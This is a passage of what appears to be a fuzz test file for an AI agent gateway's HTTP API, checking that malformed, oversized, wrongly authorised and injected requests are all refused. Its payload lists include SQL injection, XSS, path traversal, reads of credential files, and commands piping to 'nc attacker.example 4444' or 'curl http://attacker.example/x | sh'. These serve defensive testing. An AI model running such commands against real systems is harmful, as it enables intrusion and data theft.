/**
 * Generated bad input over every endpoint, from a seeded PRNG: malformed and wrongly typed
 * JSON, missing fields, injection strings in every string field, huge strings and bodies,
 * hostile ids and paths, wrong methods and content types, wrong Authorization headers.
 * Every answer must be a 4xx `{ok:false, error, message}` (401 for a bad token, 413 for an
 * oversized body, 400 for a bad `GET /sessions` query); no request may go unanswered; the
 * ledger must not change and no agent may start; the gateway must stay healthy.
 *
 * Reproduce a run with `BAD_INPUT_SEED=<seed> npx vitest run test/bad-input-generated.test.ts`
 * (every test prints the seed it used; a failure lists the requests by number).
 */
import { HttpServer } from "@effect/platform"
import { SqlClient } from "@effect/sql"
import { describe, expect, it } from "@effect/vitest"
import { Effect } from "effect"
import { readdirSync } from "node:fs"
import { join } from "node:path"
import { Workspaces } from "../src/services/sessions/Workspaces.js"
import {
  badInputProblem,
  describeRequest,
  encodeSegment,
  Gen,
  type RawOutcome,
  type RawRequest,
  seedFor,
  sendAll,
  sendBytes
} from "./support/Fuzz.js"
import { api, startGateway } from "./support/GatewayProcess.js"
import { agentLogFile, isAlive, scriptedAgents, startedPids } from "./support/ScriptedAgent.js"
import { appName, appToken, layerScriptedGateway, otherToken, request } from "./support/TestGateway.js"

const baseSeed = Number(process.env.BAD_INPUT_SEED ?? 20260521)
const MiB = 1024 * 1024

// ---------------------------------------------------------------------------------------------
// Hostile material

const injections: ReadonlyArray<string> = [
  "' OR '1'='1",
  "'; DROP TABLE sessions; --",
  "\" OR \"\"=\"",
  "1; DELETE FROM session_events WHERE 1=1",
  "') UNION SELECT name, token_hash FROM apps --",
  "$(rm -rf /)",
  "`id`",
  "; cat /etc/passwd",
  "| nc attacker.example 4444",
  "&& curl http://attacker.example/x | sh",
  "\n/bin/sh -i",
  "../../../../etc/passwd",
  "..\\..\\..\\windows\\win.ini",
  "/etc/shadow",
  "~/.ssh/id_rsa",
  "file:///etc/passwd",
  "\u0000",
  "a\u0000b",
  "%00",
  "%2e%2e%2f%2e%2e%2f",
  "{{7*7}}",
  "${7*7}",
  "#{7*7}",
  "<script>alert(1)</script>",
  "\"}",
  "\\",
  "\r\nSet-Cookie: pwned=1",
  "\u202egnp.exe",
  "\u200b\u200b",
  "💥🔥",
  "\ud800",
  "\udfff\ud800",
  "\ufeff",
  "／etc／passwd",
  "%s%n%x%d",
  "__proto__",
  "constructor",
  "prototype",
  "null",
  "undefined",
  "NaN",
  "-1",
  "1e999",
  "{\"agent\":\"scripted\"}",
  " "
]

/** A string meant to hurt: an injection, random code points, a mix, or something long. */
const hostile = (g: Gen): string => {
  switch (g.int(0, 5)) {
    case 0:
    case 1:
      return g.pick(injections)
    case 2:
      return g.unicode(g.int(1, 40))
    case 3:
      return g.pick(injections) + g.unicode(g.int(0, 8)) + g.pick(injections)
    case 4:
      return g.pick(injections).repeat(g.int(2, 50))
    default:
      return g.chars("abcXYZ019-_./\\'\"%$`;|&<>{}", g.int(100, 3000))
  }
}

/** A non-empty hostile string. */
const hostileNonEmpty = (g: Gen) => {
  const s = hostile(g)
  return s.length === 0 ? "x" : s
}

/** JSON values of the wrong type for a string (or object) field. */
const wrongTypes: ReadonlyArray<unknown> = [
  null,
  true,
  false,
  0,
  -1,
  1.5,
  1e308,
  [],
  ["x"],
  [1, 2, 3],
  { text: "x" },
  {}
]

/** A random JSON value (with hostile strings), at most `depth` deep. */
const jsonValue = (g: Gen, depth: number): unknown => {
  const kind = depth <= 0 ? g.int(0, 3) : g.int(0, 5)
  switch (kind) {
    case 0:
      return hostile(g)
    case 1:
      return g.pick([0, -0.5, 1e21, Number.MAX_SAFE_INTEGER, -1])
    case 2:
      return g.pick([true, false, null])
    case 3:
      return g.chars("abc", g.int(0, 5))
    case 4:
      return Array.from({ length: g.int(0, 4) }, () => jsonValue(g, depth - 1))
    default:
      return jsonObject(g, depth - 1)
  }
}

const jsonObject = (g: Gen, depth: number): Record<string, unknown> => {
  const out: Record<string, unknown> = {}
  for (let i = g.int(0, 4); i > 0; i--) out[g.bool(0.5) ? hostile(g) : g.chars("abcdef", 4)] = jsonValue(g, depth)
  return out
}

/** Raw bodies that are not JSON, or not a JSON object. */
const malformedBodies: ReadonlyArray<string | Buffer> = [
  "",
  "{",
  "}",
  "{\"agent\":",
  "{\"prompt\":\"x\"",
  "{'prompt': 'x'}",
  "{prompt: \"x\"}",
  "{\"prompt\": \"x\",}",
  "{\"prompt\": NaN}",
  "{\"prompt\": undefined}",
  "{\"prompt\": \"x\" /* comment */}",
  "// comment\n{\"prompt\": \"x\"}",
  "{\"prompt\": \"\\x41\"}",
  "{\"prompt\": \"\\u12\"}",
  "{\"prompt\": \"unterminated}",
  "{\"prompt\": \"a\"\"b\"}",
  "{\"prompt\": 0x10}",
  "{\"prompt\": 01}",
  "\ufeff{\"prompt\": \"x\"}",
  "null",
  "true",
  "42",
  "-0",
  "\"text\"",
  "[]",
  "[{\"prompt\":\"x\"}]",
  "{}",
  "not json at all",
  "\u0000\u0001\u0002",
  "<?xml version=\"1.0\"?><prompt>x</prompt>",
  "prompt=x&agent=scripted",
  "--zz\r\nContent-Disposition: form-data; name=\"prompt\"\r\n\r\nx\r\n--zz--",
  Buffer.from([0xff, 0xfe, 0x7b, 0x7d]),
  Buffer.from([0xc0, 0xaf, 0xe0, 0x80]),
  Buffer.from([0x7b, 0x22, 0x70, 0x22, 0x3a, 0xff, 0x7d])
]

const contentTypes: ReadonlyArray<string | undefined> = [
  undefined,
  undefined,
  "application/json",
  "application/json",
  "text/plain",
  "application/x-www-form-urlencoded",
  "multipart/form-data; boundary=zz",
  "application/xml",
  "application/json; charset=latin1",
  "application/json; charset=utf-16",
  "image/png",
  "*/*",
  "",
  "application/json, text/html",
  "'; DROP TABLE sessions; --"
]

/** Bytes a header value may carry (Node refuses CR, LF and NUL, and anything past U+00FF). */
const headerSafe = (s: string) => s.replace(/[^\t\x20-\x7e\x80-\xff]/g, "?").trim()

const withType = (g: Gen, headers: Record<string, string>): Record<string, string> => {
  const type = g.pick(contentTypes)
  return type === undefined ? headers : { ...headers, "content-type": headerSafe(type) }
}

const bearer = (token: string) => ({ authorization: `Bearer ${token}` })

/**
 * A body that is never valid: raw garbage, a valid object made invalid (cut short, extra
 * bytes after it, a duplicate key whose last value is wrong), or the given invalid object.
 */
const spoil = (g: Gen, invalid: Record<string, unknown>, valid: Record<string, unknown>): string | Buffer => {
  switch (g.int(0, 9)) {
    case 0:
    case 1:
      return g.pick(malformedBodies)
    case 2: {
      const text = JSON.stringify(valid)
      return text.slice(0, g.int(0, text.length - 1))
    }
    case 3:
      return JSON.stringify(valid) + g.pick([",", "x", "}", "{}", "]", "\u0000", "garbage"])
    case 4: {
      const text = JSON.stringify(valid)
      const [key] = Object.keys(valid)
      return `${text.slice(0, -1)},${JSON.stringify(key)}:${JSON.stringify(g.pick(wrongTypes))}}`
    }
    case 5:
      return Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(JSON.stringify(valid))])
    case 6:
      return JSON.stringify(invalid, null, g.int(0, 4))
    default:
      return JSON.stringify(invalid)
  }
}

// ---------------------------------------------------------------------------------------------
// Field-level defects per endpoint (each one is checked before anything happens)

const knownAgents = new Set(["scripted", "scripted-noload", "scripted-stubborn", "claude", "codex", "echo", "gemini"])

const hugeString = (g: Gen) => g.pick(["x", "é", "'", "\\u0000", "ab"]).repeat(g.int(200_000, 450_000))

/** A create body with one defect (decode error or unknown agent); the rest hostile but typed right. */
const badCreateBody = (g: Gen): Record<string, unknown> => {
  const body: Record<string, unknown> = {
    agent: g.bool(0.5) ? "scripted" : hostileNonEmpty(g).slice(0, 128),
    ...(g.bool(0.6) ? { meta: jsonObject(g, 3) } : {}),
    ...(g.bool(0.5) ? { cwd: hostileNonEmpty(g).slice(0, 4096) } : {}),
    ...(g.bool(0.3) ? { permission_mode: g.pick(["approve-all", "approve-reads", "deny-all"]) } : {}),
    ...(g.bool(0.3) ? { [hostile(g)]: jsonValue(g, 2) } : {})
  }
  switch (g.int(0, 10)) {
    case 0:
      body.agent = g.pick(wrongTypes)
      break
    case 1:
      body.agent = g.pick(["", "a".repeat(129), hostile(g).padEnd(129, "z"), hugeString(g)])
      break
    case 2:
      delete body.agent
      break
    case 3:
      body.meta = g.pick([...wrongTypes.filter((v) => v === null || typeof v !== "object" || Array.isArray(v)), hostile(g)])
      break
    case 4:
      body.cwd = g.pick([...wrongTypes, "", "c".repeat(4097), hugeString(g)])
      break
    case 5:
      body.permission_mode = g.pick([...wrongTypes, "", "yolo", "APPROVE-ALL", "approve-all ", hostile(g)])
      break
    case 6:
      // Huge strings inside valid JSON, with an agent that does not exist.
      body.agent = `no-such-agent-${g.chars("abc", 6)}`
      body.meta = { blob: hugeString(g), [hostile(g)]: hostile(g) }
      break
    default: {
      let agent = hostileNonEmpty(g).slice(0, 128)
      if (knownAgents.has(agent)) agent = `${agent}-nope`
      body.agent = agent
    }
  }
  return body
}

const badRunBody = (g: Gen): Record<string, unknown> => {
  const body: Record<string, unknown> = {
    prompt: hostileNonEmpty(g),
    ...(g.bool(0.4) ? { model: hostileNonEmpty(g).slice(0, 256) } : {}),
    ...(g.bool(0.4) ? { system_prompt: hostile(g) } : {}),
    ...(g.bool(0.3) ? { timeout_secs: g.pick([1, 30, 3600, 0.5]) } : {})
  }
  switch (g.int(0, 7)) {
    case 0:
      body.prompt = g.pick(wrongTypes)
      break
    case 1:
      body.prompt = ""
      break
    case 2:
      delete body.prompt
      break
    case 3:
      body.model = g.pick([...wrongTypes, "", "m".repeat(257), hugeString(g)])
      break
    case 4:
      body.system_prompt = g.pick(wrongTypes)
      break
    case 5:
      body.timeout_secs = g.pick([0, -1, 3601, 1e308, "10", null, [], {}, true, hostile(g)])
      break
    case 6:
      // A huge prompt, and a wrong type next to it.
      body.prompt = hugeString(g)
      body.timeout_secs = g.pick(["soon", -5, null])
      break
    default:
      body.prompt = g.pick([g.pick(wrongTypes), ""])
      body.model = g.pick(wrongTypes)
  }
  return body
}

/** A path that leaves the session's workspace, whatever the workspace is called. */
const escapingPath = (g: Gen) => {
  const tail = hostileNonEmpty(g).replace(/[/\\\u0000]/g, "_").slice(0, 200) || "x"
  switch (g.int(0, 3)) {
    case 0:
      return "../".repeat(g.int(1, 12)) + tail
    case 1:
      return `/etc/${tail}`
    case 2:
      return `${g.chars("abc", 3)}\u0000${tail}`
    default:
      return `sub/${"../".repeat(g.int(2, 6))}${tail}`
  }
}

/** A turn body with one defect: decode error, or a file outside the session's workspace. */
const badTurnBody = (g: Gen): Record<string, unknown> => {
  const body: Record<string, unknown> = {
    prompt: hostileNonEmpty(g),
    ...(g.bool(0.4) ? { files: Array.from({ length: g.int(0, 3) }, () => hostileNonEmpty(g).slice(0, 4096)) } : {})
  }
  switch (g.int(0, 8)) {
    case 0:
      body.prompt = g.pick(wrongTypes)
      break
    case 1:
      body.prompt = ""
      break
    case 2:
      delete body.prompt
      break
    case 3:
      body.files = g.pick([hostileNonEmpty(g), 1, { a: "b" }, true, null])
      break
    case 4:
      body.files = [...((body.files as Array<unknown>) ?? []), g.pick([...wrongTypes, "", "f".repeat(4097)])]
      break
    case 5:
      body.files = Array.from({ length: 101 }, (_, i) => `file-${i}.txt`)
      break
    case 6:
      body.prompt = hugeString(g)
      body.files = g.pick(["notes.txt", [1], [""]])
      break
    default:
      // Well-formed, but a file that escapes the workspace.
      body.files = [...((body.files as Array<unknown>) ?? []), escapingPath(g)]
  }
  return body
}

// ---------------------------------------------------------------------------------------------
// Ids and paths

const hostileSegments: ReadonlyArray<string> = [
  "..",
  "..%2F..%2Fetc%2Fpasswd",
  "%2e%2e%2f%2e%2e%2fmetrics",
  "%252e%252e%252f",
  "....%2F%2F",
  "%2F",
  "a%2Fb",
  "a%5Cb",
  "%5C..%5C..",
  "%00",
  "a%00b",
  "%",
  "%zz",
  "%E0%A4%A",
  "%ED%A0%80",
  "%C0%AF",
  "%F0%9F%92%A5",
  "%E2%80%AE",
  "%EF%BC%8F",
  "~",
  "*",
  "a;b=c",
  "'%20OR%201%3D1%20--",
  "%3Cscript%3Ealert(1)%3C%2Fscript%3E",
  "$(id)",
  "%24(reboot)",
  "%60id%60",
  "null",
  "undefined",
  "-1",
  "0"
]

/** A path segment for a session id that names no session of the caller. */
const hostileId = (g: Gen, ids: Ids): string => {
  switch (g.int(0, 6)) {
    case 0:
    case 1:
      return g.pick(hostileSegments)
    case 2:
      return encodeSegment(hostileNonEmpty(g).slice(0, 2000))
    case 3:
      return g.chars("abcdefghijklmnopqrstuvwxyz", g.pick([65, 100, 1000, 4000, 8000]))
    case 4:
      // Well-formed ids that were never issued.
      return g.chars("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_", g.int(16, 64))
    case 5:
      // Another app's real session: exactly like one that does not exist.
      return ids.other
    default:
      // A prefix of the caller's real id, maybe with something after it.
      return `${ids.own.slice(0, g.int(1, ids.own.length - 1))}${g.bool(0.5) ? encodeSegment(g.pick(injections)) : ""}`
  }
}

interface Ids {
  /** The caller's open session (one real agent). */
  readonly own: string
  /** The caller's closed session. */
  readonly closed: string
  /** The other app's open session. */
  readonly other: string
}

// ---------------------------------------------------------------------------------------------
// The corpora

const bodyEndpoints = (ids: Ids) => ({
  run: "/run",
  create: "/sessions",
  turn: `/sessions/${ids.own}/turn`,
  stream: `/sessions/${ids.own}/turn/stream`
})

/** Malformed, wrongly typed, missing, injected and huge-within-the-limit bodies on every body endpoint. */
const bodyCorpus = (g: Gen, ids: Ids, count: number): Array<RawRequest> => {
  const paths = bodyEndpoints(ids)
  return Array.from({ length: count }, (): RawRequest => {
    const endpoint = g.pick(["run", "create", "turn", "stream"] as const)
    const headers = withType(g, bearer(appToken))
    switch (endpoint) {
      case "run":
        return { kind: "body/run", method: "POST", path: paths.run, headers, body: spoil(g, badRunBody(g), { prompt: hostileNonEmpty(g) }) }
      case "create":
        return {
          kind: "body/create",
          method: "POST",
          path: paths.create,
          headers,
          body: spoil(g, badCreateBody(g), { agent: "scripted", meta: jsonObject(g, 2) })
        }
      default: {
        // Mostly the caller's live session; sometimes a closed one or the other app's,
        // where even a well-formed body is refused (410, 404).
        const target = g.int(0, 9)
        if (target >= 8) {
          const id = target === 8 ? ids.closed : ids.other
          const body = g.bool(0.5) ? JSON.stringify({ prompt: hostileNonEmpty(g) }) : spoil(g, badTurnBody(g), { prompt: "x" })
          return { kind: `body/${endpoint}/${target === 8 ? "closed" : "other-app"}`, method: "POST", path: `/sessions/${id}/${endpoint === "turn" ? "turn" : "turn/stream"}`, headers, body }
        }
        return { kind: `body/${endpoint}`, method: "POST", path: paths[endpoint], headers, body: spoil(g, badTurnBody(g), { prompt: hostileNonEmpty(g) }) }
      }
    }
  })
}

/** Hostile ids on every id endpoint, hostile trailing paths, and bad `GET /sessions` queries. */
const pathCorpus = (g: Gen, ids: Ids, count: number): Array<RawRequest> =>
  Array.from({ length: count }, (): RawRequest => {
    const headers = withType(g, bearer(appToken))
    const id = hostileId(g, ids)
    const anyBody = () =>
      g.pick([
        () => JSON.stringify({ prompt: hostileNonEmpty(g), ...(g.bool(0.3) ? { files: ["notes.txt"] } : {}) }),
        () => JSON.stringify({ prompt: g.pick(injections) || "x" }),
        () => spoil(g, badTurnBody(g), { prompt: "x" })
      ])()
    switch (g.int(0, 9)) {
      case 0:
        return { kind: "id/get", method: "GET", path: `/sessions/${id}`, headers }
      case 1:
        return { kind: "id/delete", method: "DELETE", path: `/sessions/${id}`, headers }
      case 2:
      case 3:
        return { kind: "id/turn", method: "POST", path: `/sessions/${id}/turn`, headers, body: anyBody() }
      case 4:
        return { kind: "id/stream", method: "POST", path: `/sessions/${id}/turn/stream`, headers, body: anyBody() }
      case 5:
        // Cancel takes no body: any body at all, valid or not, and a hostile id.
        return {
          kind: "id/cancel",
          method: "POST",
          path: `/sessions/${id}/cancel`,
          headers,
          ...(g.bool(0.7) ? { body: g.bool(0.5) ? anyBody() : g.pick(malformedBodies) } : {})
        }
      case 6: {
        const own = ids.own
        const path = g.pick([
          `/sessions/${own}/turn/${id}`,
          `/sessions/${own}/${id}`,
          `/sessions/${own}/cancel/${id}`,
          `/sessions/${own}%2Fturn`,
          `/sessions/${own}%2fturn%2fstream`,
          `/sessions/${own}/turn%00`,
          `/sessions/${own}/turn/stream/extra`,
          `/sessions/${id}/${own}/turn`,
          `/run/${id}`,
          `/metrics/${id}`,
          `/healthz/${id}`,
          `/${id}`,
          `/sessions/%2e%2e/run`,
          `/%2e%2e/%2e%2e/etc/passwd`
        ])
        const method = g.pick(["GET", "POST", "DELETE"])
        return { kind: "path/trailing", method, path, headers, ...(method === "POST" ? { body: anyBody() } : {}) }
      }
      default: {
        const value = badQueryValue(g)
        const extra = g.bool(0.3) ? `&${encodeSegment(hostile(g).slice(0, 200))}=${encodeSegment(hostile(g).slice(0, 200))}` : ""
        const query = g.pick([
          `limit=${value.limit}`,
          `status=${value.status}`,
          `limit=${value.limit}&status=open`,
          `status=closed&limit=${value.limit}`,
          `limit=5&limit=6`,
          `status=open&status=closed`,
          `status=${value.status}&limit=10`
        ])
        return { kind: "query/list", method: "GET", path: `/sessions?${query}${extra}`, headers, status: 400 }
      }
    }
  })

/** A `limit` and a `status` that `GET /sessions` must refuse (already percent-encoded). */
const badQueryValue = (g: Gen) => {
  let limit: string
  for (;;) {
    limit = g.pick([
      "0",
      "-1",
      "-1000",
      "1001",
      "99999999999999999999",
      "1e10",
      "1.5",
      "0.999",
      "abc",
      "",
      "Infinity",
      "-Infinity",
      "NaN",
      "%00",
      "1%2C2",
      "%5B1%5D",
      "true",
      "null",
      encodeSegment(hostile(g).slice(0, 300))
    ])
    // Skip what a number parser would take as a valid limit (1..1000).
    const n = Number(decodeURIComponentSafe(limit))
    if (!(Number.isInteger(n) && n >= 1 && n <= 1000)) break
  }
  const status = g.pick(["", "OPEN", "Closed", "all", "open%00", "open%20", "%20open", "opened", encodeSegment(hostile(g).slice(0, 200))])
  return { limit, status: status === "open" || status === "closed" ? "0" : status }
}

const decodeURIComponentSafe = (s: string) => {
  try {
    return decodeURIComponent(s)
  } catch {
    return s
  }
}

/** Methods an endpoint does not have (HEAD is GET without a body, so it is left out). */
const wrongMethodCorpus = (g: Gen, ids: Ids, count: number): Array<RawRequest> => {
  const table: ReadonlyArray<readonly [string, ReadonlyArray<string>]> = [
    ["/run", ["GET", "PUT", "PATCH", "DELETE", "OPTIONS", "TRACE"]],
    ["/sessions", ["PUT", "PATCH", "DELETE", "OPTIONS"]],
    [`/sessions/${ids.own}`, ["POST", "PUT", "PATCH", "OPTIONS"]],
    [`/sessions/${ids.own}/turn`, ["GET", "PUT", "PATCH", "DELETE", "OPTIONS"]],
    [`/sessions/${ids.own}/turn/stream`, ["GET", "PUT", "PATCH", "DELETE", "OPTIONS"]],
    [`/sessions/${ids.own}/cancel`, ["GET", "PUT", "PATCH", "DELETE", "OPTIONS"]],
    ["/metrics", ["POST", "PUT", "PATCH", "DELETE", "OPTIONS"]],
    ["/healthz", ["POST", "PUT", "PATCH", "DELETE"]]
  ]
  return Array.from({ length: count }, (): RawRequest => {
    const [path, methods] = g.pick(table)
    const method = g.pick(methods)
    const headers = withType(g, g.bool(0.8) ? bearer(appToken) : {})
    // Sometimes a body that the right method would accept.
    const bodies = [JSON.stringify({ prompt: "hello" }), JSON.stringify({ agent: "scripted" }), g.pick(malformedBodies)]
    const body = method === "TRACE" || g.bool(0.4) ? undefined : g.pick(bodies)
    return { kind: "method", method, path, headers, ...(body === undefined ? {} : { body }) }
  })
}

/** Wrong or malformed `Authorization` on requests that would otherwise succeed: always 401. */
const authCorpus = (g: Gen, ids: Ids, count: number): Array<RawRequest> => {
  const targets: ReadonlyArray<() => Omit<RawRequest, "kind" | "headers">> = [
    () => ({ method: "POST", path: "/run", body: JSON.stringify({ prompt: "hello" }) }),
    () => ({ method: "POST", path: "/sessions", body: JSON.stringify({ agent: "scripted", meta: { a: 1 } }) }),
    () => ({ method: "POST", path: `/sessions/${ids.own}/turn`, body: JSON.stringify({ prompt: "hello" }) }),
    () => ({ method: "POST", path: `/sessions/${ids.own}/turn/stream`, body: JSON.stringify({ prompt: "hello" }) }),
    () => ({ method: "POST", path: `/sessions/${ids.own}/cancel` }),
    () => ({ method: "GET", path: `/sessions/${ids.own}` }),
    () => ({ method: "DELETE", path: `/sessions/${ids.own}` }),
    () => ({ method: "GET", path: "/sessions" }),
    () => ({ method: "GET", path: "/sessions?status=open&limit=10" }),
    () => ({ method: "GET", path: "/sessions?limit=abc" }),
    () => ({ method: "GET", path: "/metrics" }),
    () => ({ method: "POST", path: "/sessions", body: "{ not json" }),
    // Routing comes before authentication (an unknown route is a 404 for anyone), so the ids
    // here are ones that route: well-formed, never issued, or the other app's.
    () => ({
      method: "POST",
      path: `/sessions/${g.bool(0.5) ? ids.other : g.chars("ABCabc012-_", g.int(16, 64))}/turn`,
      body: JSON.stringify({ prompt: 1 })
    })
  ]
  const token = appToken
  const mutate = (t: string): string => {
    switch (g.int(0, 9)) {
      case 0:
        return t.slice(0, -1)
      case 1:
        return t + g.chars("abcXYZ012", g.int(1, 3))
      case 2: {
        const i = g.int(0, t.length - 1)
        return t.slice(0, i) + (t[i] === "a" ? "b" : "a") + t.slice(i + 1)
      }
      case 3:
        return t.toUpperCase()
      case 4:
        return t.split("").reverse().join("")
      case 5:
        return t.slice(0, g.int(1, t.length - 1))
      case 6:
        return `${t},${t}`
      case 7:
        return `${t} ${t}`
      case 8:
        return otherToken.slice(0, -2) + "zz"
      default:
        return `\u00ff${t}`
    }
  }
  const variants: ReadonlyArray<() => string | Array<string> | undefined> = [
    () => undefined,
    () => "",
    () => "Bearer",
    () => "Bearer ",
    () => "Bearer    ",
    () => `Bearer ${mutate(token)}`,
    () => `Bearer ${mutate(token)}`,
    () => `Bearer ${mutate(token)}`,
    () => `Bearer  ${token}`,
    () => `Bearer ${headerSafe(hostileNonEmpty(g)) || "x"}`,
    () => `Bearer ${"A".repeat(g.pick([100, 1000, 8000]))}`,
    () => token,
    () => `Basic ${Buffer.from(`${appName}:${token}`).toString("base64")}`,
    () => `Basic ${Buffer.from(token).toString("base64")}`,
    () => `Bearer ${Buffer.from(token).toString("base64")}`,
    () => headerSafe(hostileNonEmpty(g)),
    () => `Bearer null`,
    () => `Bearer undefined`,
    () => `Bearer \u00ff\u00fe\u00fd`,
    () => [`Bearer ${mutate(token)}`, `Bearer ${token}`]
  ]
  return Array.from({ length: count }, (): RawRequest => {
    const target = g.pick(targets)()
    const auth = g.pick(variants)()
    const headers: Record<string, string | Array<string>> = withType(g, {})
    if (auth !== undefined) headers["authorization"] = auth
    return { kind: "auth", ...target, headers, status: 401 }
  })
}

/** Bodies over the 1 MiB limit, sent with a Content-Length, on every endpoint: 413. */
const oversizeCorpus = (g: Gen, ids: Ids, count: number): Array<RawRequest> => {
  const paths: ReadonlyArray<readonly [string, string, (pad: string) => string]> = [
    ["POST", "/run", (pad) => JSON.stringify({ prompt: pad })],
    ["POST", "/sessions", (pad) => JSON.stringify({ agent: "scripted", meta: { pad } })],
    ["POST", `/sessions/${ids.own}/turn`, (pad) => JSON.stringify({ prompt: pad })],
    ["POST", `/sessions/${ids.own}/turn/stream`, (pad) => JSON.stringify({ prompt: pad })],
    ["POST", `/sessions/${ids.own}/cancel`, (pad) => pad],
    ["GET", `/sessions/${ids.own}`, (pad) => pad],
    ["DELETE", `/sessions/${ids.own}`, (pad) => pad],
    ["GET", "/sessions", (pad) => pad],
    ["GET", "/metrics", (pad) => pad]
  ]
  return Array.from({ length: count }, (_, i): RawRequest => {
    const [method, path, wrap] = paths[i % paths.length]!
    // Over the limit in bytes however it is wrapped.
    const unit = g.pick(["x", "é", "ab"])
    const pad = unit.repeat(Math.ceil((MiB + g.int(1, MiB)) / Buffer.byteLength(unit)))
    return { kind: "oversize", method, path, headers: withType(g, bearer(appToken)), body: wrap(pad), status: 413 }
  })
}

// ---------------------------------------------------------------------------------------------
// The harness

const log = agentLogFile()

// A /run that got through would fail loudly (502) rather than reach a real claude.
// Its 300 wrong tokens come from one address: the throttle (test/hardening.test.ts) would answer most 429.
const gateway = () =>
  layerScriptedGateway(log, { CLAWDFORGE_CLAUDE_BIN: "/nonexistent/claude", CLAWDFORGE_AUTH_FAILURES_PER_MINUTE: "0" })

const ledgerCounts = Effect.gen(function*() {
  const sql = yield* SqlClient.SqlClient
  const [row] = yield* sql<{ sessions: number; events: number; turns: number; open: number }>`
    SELECT (SELECT count(*) FROM sessions) AS sessions, (SELECT count(*) FROM session_events) AS events,
           (SELECT coalesce(sum(turn_count), 0) FROM sessions) AS turns,
           (SELECT count(*) FROM sessions WHERE closed_at IS NULL) AS open`
  return row!
})

/** Three sessions to aim at: the caller's open one, the caller's closed one, another app's open one. */
const setUp = Effect.gen(function*() {
  const server = yield* HttpServer.HttpServer
  const port = (server.address as HttpServer.TcpAddress).port
  const create = (token: string) =>
    request("POST", "/sessions", { token, body: { agent: "scripted" } }).pipe(
      Effect.tap((r) => expect(r.status, JSON.stringify(r.body)).toBe(200)),
      Effect.map((r) => r.body.session_id as string)
    )
  const own = yield* create(appToken)
  const closed = yield* create(appToken)
  expect((yield* request("DELETE", `/sessions/${closed}`, { token: appToken })).status).toBe(200)
  const other = yield* create(otherToken)
  return { port, ids: { own, closed, other } satisfies Ids }
})

/**
 * Sends the generated requests, then checks every answer, the ledger (unchanged), the agents
 * (none started) and the gateway's health (a valid turn on the caller's session is its first).
 */
const runCorpus = (name: string, build: (g: Gen, ids: Ids) => Array<RawRequest>) =>
  Effect.gen(function*() {
    const { ids, port } = yield* setUp
    const seed = seedFor(baseSeed, name)
    const requests = build(new Gen(seed), ids)
    const before = yield* ledgerCounts
    const agentsBefore = startedPids(log).length
    const started = Date.now()
    const outcomes: Array<RawOutcome> = yield* Effect.promise(() => sendAll(port, requests, 16))
    const took = Date.now() - started
    const statuses = new Map<string, number>()
    for (const o of outcomes) {
      const key = o._tag === "dropped" ? "dropped" : String(o.status)
      statuses.set(key, (statuses.get(key) ?? 0) + 1)
    }
    console.log(
      `[bad-input] ${name}: ${requests.length} requests in ${took} ms (BAD_INPUT_SEED=${baseSeed}, seed ${seed}); ` +
        `statuses ${JSON.stringify(Object.fromEntries(statuses))}`
    )
    const failures = requests.flatMap((r, i) => {
      const problem = badInputProblem(r, outcomes[i]!)
      return problem === undefined ? [] : [`${describeRequest(r, i)}\n    -> ${problem}`]
    })
    expect.soft(
      failures.slice(0, 40),
      `${failures.length} of ${requests.length} bad requests were not answered as bad input ` +
        `(BAD_INPUT_SEED=${baseSeed}, seed ${seed})`
    ).toEqual([])

    // Nothing reached the ledger or started an agent.
    expect(yield* ledgerCounts).toEqual(before)
    expect(startedPids(log).length).toBe(agentsBefore)
    // Still healthy: a valid turn on the caller's session is its first one.
    expect((yield* request("GET", "/healthz")).status).toBe(200)
    const turn = yield* request("POST", `/sessions/${ids.own}/turn`, { token: appToken, body: { prompt: "still fine" } })
    expect(turn.status, JSON.stringify(turn.body)).toBe(200)
    expect(turn.body.turn_index).toBe(1)
    const other = yield* request("GET", `/sessions/${ids.other}`, { token: otherToken })
    expect(other.body).toMatchObject({ status: "open", turn_count: 0 })
    return requests.length
  })

const total = { count: 0 }
const counted = <E, R>(self: Effect.Effect<number, E, R>) => Effect.tap(self, (n) => total.count += n)

describe("generated bad input", () => {
  it.scopedLive("malformed, wrongly typed, missing, injected and huge bodies on every body endpoint", () =>
    runCorpus("bodies", (g, ids) => bodyCorpus(g, ids, 650)).pipe(
      counted,
      Effect.provide(gateway())
    ), 60_000)

  it.scopedLive("hostile ids and paths on every id endpoint, and bad GET /sessions queries (400)", () =>
    runCorpus("paths", (g, ids) => pathCorpus(g, ids, 420)).pipe(
      counted,
      Effect.provide(gateway())
    ), 60_000)

  it.scopedLive("wrong methods on every route", () =>
    runCorpus("methods", (g, ids) => wrongMethodCorpus(g, ids, 120)).pipe(
      counted,
      Effect.provide(gateway())
    ), 60_000)

  it.scopedLive("wrong, malformed or missing Authorization on every endpoint is 401", () =>
    runCorpus("auth", (g, ids) => authCorpus(g, ids, 300)).pipe(
      counted,
      Effect.provide(gateway())
    ), 60_000)

  it.scopedLive("bodies over 1 MiB with a Content-Length are 413 on every endpoint", () =>
    runCorpus("oversize", (g, ids) => oversizeCorpus(g, ids, 27)).pipe(
      counted,
      Effect.tap(() => Effect.sync(() => console.log(`[bad-input] ${total.count} generated bad requests in all`))),
      Effect.provide(gateway())
    ), 60_000)
})

describe("bad input at the edges of the platform (streamed bodies, nesting, cwd, auth scheme)", () => {
  it.scopedLive("a streamed (chunked) body over 1 MiB is a 413, not a dropped connection", () =>
    runCorpus("chunked", (g, ids) =>
      [
        ["/run", (pad: string) => JSON.stringify({ prompt: pad })],
        ["/sessions", (pad: string) => JSON.stringify({ agent: "scripted", meta: { pad } })],
        [`/sessions/${ids.own}/turn`, (pad: string) => JSON.stringify({ prompt: pad })],
        [`/sessions/${ids.own}/turn/stream`, (pad: string) => JSON.stringify({ prompt: pad })]
      ].map(([path, wrap]): RawRequest => ({
        kind: "oversize/chunked",
        method: "POST",
        path: path as string,
        headers: bearer(appToken),
        body: (wrap as (pad: string) => string)("x".repeat(MiB + g.int(1, MiB))),
        chunked: true,
        status: 413
      }))).pipe(Effect.provide(gateway())), 60_000)

  it.scopedLive("deeply nested JSON is a 400, not a 500", () =>
    runCorpus("nesting", (_g, ids) =>
      [1_000, 10_000, 100_000, 400_000].flatMap((depth): Array<RawRequest> => {
        const arrays = "[".repeat(depth) + "]".repeat(depth)
        const objects = "{\"a\":".repeat(depth) + "1" + "}".repeat(depth)
        return [
          { kind: `nesting/${depth}`, method: "POST", path: "/run", headers: bearer(appToken), body: arrays },
